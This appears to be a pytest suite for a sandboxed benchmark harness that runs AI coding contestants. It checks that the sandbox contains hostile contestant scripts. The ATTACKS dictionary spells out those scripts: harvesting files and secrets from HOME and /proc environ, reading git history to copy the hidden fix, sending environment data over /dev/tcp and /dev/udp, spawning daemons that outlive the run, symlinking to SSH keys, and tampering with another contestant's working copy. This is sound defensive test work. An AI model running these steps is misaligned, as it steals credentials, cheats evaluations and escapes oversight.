"""The attacks that already hold, performed for real: one bout per sandbox hosts a
hostile contestant per attack at once, and each test checks one attack's effect.

Every hostile script copies whatever it can reach into its working copy and onto its
output, so anything it reaches ends up in its stored patch and logs, where
:meth:`Bout.leaks` looks for every planted secret. Readers also try to apply the fix
they might have found, so the score says whether they got it.
"""

from __future__ import annotations

import json
import uuid
from pathlib import Path

import pytest
from harness import SANDBOXES, Bout, Listener, run_bout

pytestmark = pytest.mark.slow  # one whole bout per sandbox, shared by every test here

LOG_LIMIT = 1_000_000
TIMEOUT = 60
"""Each attempt's seconds: the slowest reader (every file under HOME, in a podman
container on a loaded machine) ends well within it; the hanging agent waits it out."""
MEMORY_BOUND = 256 << 20
"""bugbout's own peak memory with a 400 MB flood and everything else going on."""

GRAB = r"""
exec > >(tee -a loot.txt | head -c 3000000) 2>&1
copier=$!  # the copy is asynchronous: the script's end waits for it, or a sandbox that
trap 'exec >&- 2>&-; wait "$copier"' EXIT  # ends with it may cut the last of the loot
grab() {  # every file under each path, as far as it can be read
  for target in "$@"; do
    echo "== $target"; ls -la "$target"
    find "$target" -maxdepth 6 \( -type f -o -type l \) 2>/dev/null | head -200 |
      while read -r file; do echo "-- $file"; head -c 4000 "$file"; echo; done
    grep -rasI -o 'SECRET-[a-z-]*-[0-9a-f]*' "$target"
  done
}
"""

ATTACKS = {
    "history": r"""
git log --all -p; git cat-file --batch-all-objects --batch | head -c 200000
git -C "$REPO" log --all -p; git --git-dir="$REPO/.git" show "$FIX"; git -C "$REPO" tag -n9
grab "$REPO" "$REPO/.git"
git --git-dir="$REPO/.git" show "$FIX:src/box/core.py" > /tmp/fixed && cp /tmp/fixed src/box/
git --git-dir="$REPO/.git" diff "$FIX~1" "$FIX" -- src | git apply
cp "$BBHOME/checkouts/trees/$FIX/src/box/core.py" src/box/core.py
exit 0
""",
    "store": r"""
grab "$STORE" "$BBHOME" "$BBHOME/checkouts/trees/$FIX" "$BBHOME/attempts"
cp -r "$BBHOME/checkouts/trees/$FIX/src/box/." src/box/
exit 0
""",
    "keys": r"""
env; cat /proc/*/environ | tr '\0' '\n'; cat /proc/*/cmdline | tr '\0' ' '
grab ~ "$FAKE_HOME" "$HOST_FILE"
exit 0
""",
    "network": r"""
for host in 127.0.0.1 $HOST_IPS; do
  env > "/dev/tcp/$host/$PORT" || echo "blocked tcp $host"
  env > "/dev/udp/$host/$PORT" || echo "blocked udp $host"
done
python3 -c "
import socket, sys
try:
    s = socket.socket(socket.AF_UNIX)
    s.connect('\\0' + sys.argv[1])
    s.send(b'x')
except OSError:
    print('blocked abstract')
" "$ABSTRACT"
""",
    "daemons": r"""
setsid bash -c 'exec -a "daemon-$0" sleep 600' "$TAG" < /dev/null > /dev/null 2>&1 &
( trap '' HUP TERM INT; exec -a "nohup-$TAG" sleep 600 ) < /dev/null > /dev/null 2>&1 &
setsid env -i bash -c 'cd /; exec -a "$0" sleep 600' "cleared-$TAG" < /dev/null > /dev/null 2>&1 &
disown -a
sleep 1; ps -eo args | grep -- "-$TAG" | grep -v grep
""",
    "hang": r"""
trap '' HUP TERM INT
while :; do sleep 1; done
""",
    "flood": r"""
head -c 300000000 /dev/zero
head -c 100000000 /dev/zero >&2
""",
    "symlinks": r"""
ln -s "$FAKE_HOME/.ssh/id_rsa" key-link; ln -s "$FAKE_HOME/.ssh" ssh-link
ln -s "$HOST_FILE" host-link; ln -s "$REPO/.git/planted-note" git-link
ln -s "$STORE/planted.txt" store-link; ln -s "$BBHOME/planted.txt" home-link
ln -s "$REPO/.git" git-dir-link; ln -s / root-link
ln "$HOST_FILE" hard-link
rm src/box/core.py; ln -s "$BBHOME/checkouts/trees/$FIX/src/box/core.py" src/box/core.py
ls -la . src/box
""",
    "intruder": r"""
end=$((SECONDS + 10))
while [ $SECONDS -lt $end ]; do
  for place in $(find "$BBHOME" "$REPO" -maxdepth 4 -type d; ls -d /proc/[0-9]*/cwd); do
    [ "$place" -ef . ] && continue
    case "$(readlink -f "$place")" in "$BBHOME"/*|"$REPO"*) ;; *) continue ;; esac  # this bout only
    cat "$place/victim.txt"
    echo "intruded by $TAG" > "$place/intruder.txt"
    echo "intruded" >> "$place/victim.txt"
  done 2> /dev/null
  sleep 0.5
done > intruder-loot.txt
cat intruder-loot.txt
""",
}
READERS = ("history", "store", "keys")
"""The attacks that start with :data:`GRAB`."""
VICTIM = "echo {nonce} > victim.txt\nsleep 12\n"


@pytest.fixture(scope="module", params=SANDBOXES)
def hostile(
    request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory, listener: Listener
) -> tuple[Bout, str]:
    """One bout with every attack at once, and the victim's secret."""
    nonce = f"SECRET-victim-{uuid.uuid4().hex}"
    root = tmp_path_factory.mktemp(f"hostile-{request.param}")
    bout = run_bout(
        root,
        {
            **{
                name: GRAB + script if name in READERS else script
                for name, script in ATTACKS.items()
            },
            "victim": VICTIM.format(nonce=nonce),
        },
        sandbox=request.param,
        timeout=TIMEOUT,
        overrides=(f"run.log-limit={LOG_LIMIT}", "verdicts.run-suite=false", "tasks.reruns=1"),
        listener=listener,
    )
    if bout.result.returncode != 0:
        pytest.fail(f"the bout failed: {bout.result.stderr[-3000:]}")
    return bout, nonce


def test_no_planted_secret_is_stored_or_printed(hostile: tuple[Bout, str]) -> None:
    """History, the fix, the store, BUGBOUT_HOME, keys in HOME, another vendor's keys,
    a host file: none reaches a stored record, log or bugbout's output."""
    bout, _ = hostile
    assert bout.all_leaks() == {}
    loot = Path(bout.attempts()["keys"]["logdir"], "stdout.log").read_text(errors="replace")
    assert "ADVERSARY_TAG" in loot  # the readers did run, and their output was kept
    assert "== " in loot


@pytest.mark.parametrize("reader", ["history", "store", "symlinks"])
def test_readers_of_the_fix_do_not_resolve(hostile: tuple[Bout, str], reader: str) -> None:
    bout, _ = hostile
    assert bout.attempts()[reader]["status"] == "finished"
    assert bout.scores()[reader] != "resolved"


def test_the_history_is_out_of_reach(hostile: tuple[Bout, str]) -> None:
    bout, _ = hostile
    record = bout.attempts()["history"]
    assert "src/box/core.py" not in [change["path"] for change in record["patch"]["files"]]
    for name in ("history", "fix", "git-file"):
        assert bout.leaks_of(name) == []


def test_nothing_reaches_a_listener_outside(hostile: tuple[Bout, str]) -> None:
    """TCP and UDP to this machine's addresses, an abstract unix socket: all blocked."""
    bout, _ = hostile
    network = bout.attempts()["network"]
    assert network["status"] == "finished"
    tried = Path(network["logdir"], "stdout.log").read_text()
    assert "blocked tcp 127.0.0.1" in tried and "blocked abstract" in tried, tried
    assert bout.listener is not None
    assert bout.listener.received == []


def test_no_process_outlives_the_bout(hostile: tuple[Bout, str]) -> None:
    """The daemons (a new session, an ignored SIGHUP, a cleared environment) and the
    hanging agent are all gone; the daemons did not hold their attempt open."""
    bout, _ = hostile
    daemons = bout.attempts()["daemons"]
    assert daemons["status"] == "finished"
    running = Path(daemons["logdir"], "stdout.log").read_text()
    assert all(f"{kind}-{bout.tag}" in running for kind in ("daemon", "nohup", "cleared"))
    assert daemons["wall_time"] < TIMEOUT
    assert bout.survivors() == []


def test_a_hanging_agent_times_out_and_the_bout_finishes(hostile: tuple[Bout, str]) -> None:
    bout, _ = hostile
    hang = bout.attempts()["hang"]
    assert hang["status"] == "timeout"
    assert hang["wall_time"] < TIMEOUT + 15


def test_an_output_flood_is_capped(hostile: tuple[Bout, str]) -> None:
    bout, _ = hostile
    flood = bout.attempts()["flood"]
    logs = Path(flood["logdir"])
    for name in ("stdout.log", "stderr.log"):
        size = (logs / name).stat().st_size
        assert LOG_LIMIT <= size <= LOG_LIMIT + 100, (name, size)
    assert bout.peak_memory < MEMORY_BOUND, bout.peak_memory
    assert bout.peak_memory > 0


def test_links_in_the_checkout_carry_no_host_content(hostile: tuple[Bout, str]) -> None:
    bout, _ = hostile
    record = bout.attempts()["symlinks"]
    links = {change["path"] for change in record["patch"]["files"] if change["symlink"]}
    assert {"key-link", "host-link", "git-link", "root-link", "src/box/core.py"} <= links
    for name in ("home-key", "host-file", "git-file", "store", "bugbout-home"):
        assert bout.leaks_of(name) == []


def test_one_contestant_cannot_reach_anothers_working_copy(hostile: tuple[Bout, str]) -> None:
    bout, nonce = hostile
    victim, intruder = bout.attempts()["victim"], bout.attempts()["intruder"]
    assert victim["status"] == intruder["status"] == "finished"
    assert [change["path"] for change in victim["patch"]["files"]] == ["victim.txt"]
    added = [line for line in victim["patch"]["other"].splitlines() if line[:1] == "+"]
    assert added == ["+++ b/victim.txt", f"+{nonce}"]
    assert bout.leaks(nonce, only=Path(intruder["logdir"])) == []
    assert nonce not in json.dumps(intruder)
